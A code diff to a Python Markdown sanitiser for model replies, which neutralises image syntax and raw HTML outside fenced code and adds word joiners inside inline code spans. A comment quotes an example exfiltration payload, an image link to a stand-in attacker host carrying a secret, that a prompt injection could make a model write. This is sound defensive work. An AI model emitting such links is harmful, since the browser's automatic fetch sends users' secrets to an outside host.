@@ -100,16 +100,22 @@ def plotly_text(text: object) -> str:
 
 # Model replies keep their Markdown (lists, code, tables, emphasis, links), but a prompt can make a
 # model write "![](http://attacker/?q=secret)", which the browser would fetch on its own
-# (exfiltration), or raw HTML. Outside code, every "<" and every "!" before "[" become character
-# references: CommonMark never reads a reference as structure, so "&#33;[a](u)" shows "!" and a
-# link (fetched only on a click), "&lt;img ...>" shows as text, and a backslash the model put
-# before them escapes only the "&". Inside code they are literal text and are kept; anything this
-# scan is unsure is code (a fence inside a list or quote, a span holding a table's "|") is
-# treated as prose, which can only show a reference literally, never let an image through.
-_FENCE_OPEN = re.compile(r"( {0,3})(`{3,}(?=[^`]*$)|~{3,})")
-_CODE_SPAN = re.compile(r"(?<![`\\])(`+)(?!`)([^|\n]*?[^`|\n])\1(?!`)")
+# (exfiltration), or raw HTML. Outside fenced code, every "<" and every "!" before "[" is made
+# inert. In prose they become character references, which CommonMark never reads as structure:
+# "&#33;[a](u)" shows "!" and a link (fetched only on a click), "&lt;img ...>" shows as text, and
+# a backslash the model put before them escapes only the "&". Inside what looks like an inline
+# code span, where a reference would show literally, an invisible word joiner goes after them
+# instead, which stops an image or a tag just the same: so guessing a span wrong (the parser pairs
+# backticks across lines, inside table cells and link destinations) can only show a reference,
+# never let an image through. Fenced code is kept as written, and only a fence that is surely
+# one (closed, or open to the end, with no table row or less indented line that could end it).
+_FENCE_OPEN = re.compile(r"( {0,3})(`{3,}(?=[^`|]*$)|~{3,}(?=[^|]*$))")
+# A line that may open a fence: a table row can look like one ("~~~ | a |"), so any "|" makes it unsure.
+_FENCE_LIKE = re.compile(r" {0,3}(`{3}|~{3})")
+_CODE_SPAN = re.compile(r"(?<![`\\])(`+)(?!`)([^\n]*?[^`\n])\1(?!`)")
 _IMAGE_OR_HTML = re.compile(r"!(?=\[)|<")
 _REFERENCES = {"!": "&#33;", "<": "&lt;"}
+_WORD_JOINER = "\u2060"
 
 
 def _neutralise_prose(text: str) -> str:
@@ -117,16 +123,17 @@ def _neutralise_prose(text: str) -> str:
     start = 0
     for span in _CODE_SPAN.finditer(text):
         pieces.append(_IMAGE_OR_HTML.sub(lambda match: _REFERENCES[match.group()], text[start : span.start()]))
-        pieces.append(span.group())
+        pieces.append(_IMAGE_OR_HTML.sub(lambda match: match.group() + _WORD_JOINER, span.group()))
         start = span.end()
     pieces.append(_IMAGE_OR_HTML.sub(lambda match: _REFERENCES[match.group()], text[start:]))
     return "".join(pieces)
 
 
 def _fence_end(lines: list[str], opening: int) -> int | None:
-    """The index of the line closing the fence opened at ``opening``, or None when it is not
-    surely a top-level fence (no closing line, or a line indented less than the fence, which
-    would end a list item around it)."""
+    """The index of the fence's last line (its closing line, or the reply's last line while a
+    streamed reply has not closed it yet: CommonMark runs such a fence to the end), or None when
+    a line indented less than the fence follows, which would end a list item around it and the
+    fence with it."""
     match = _FENCE_OPEN.match(lines[opening])
     assert match is not None
     indent, fence = len(match.group(1)), match.group(2)
@@ -137,7 +144,7 @@ def _fence_end(lines: list[str], opening: int) -> int | None:
             return index
         if line.strip() and len(line) - len(line.lstrip(" ")) < indent:
             return None
-    return None
+    return len(lines) - 1
 
 
 def reply_markdown(text: object) -> str:
@@ -152,10 +159,14 @@ def reply_markdown(text: object) -> str:
     shown: list[str] = []
     prose_start = index = 0
     while index < len(lines):
-        end = _fence_end(lines, index) if _FENCE_OPEN.match(lines[index]) else None
-        if end is None:
+        if not _FENCE_LIKE.match(lines[index]):
             index += 1
             continue
+        end = _fence_end(lines, index) if _FENCE_OPEN.match(lines[index]) else None
+        if end is None:
+            # A parser might still read this line as a fence, and a later one as its closing line
+            # rather than an opening: from here on nothing is taken for fenced code.
+            break
         if prose_start < index:
             shown.append(_neutralise_prose("\n".join(lines[prose_start:index])))
         shown.append("\n".join(lines[index : end + 1]))
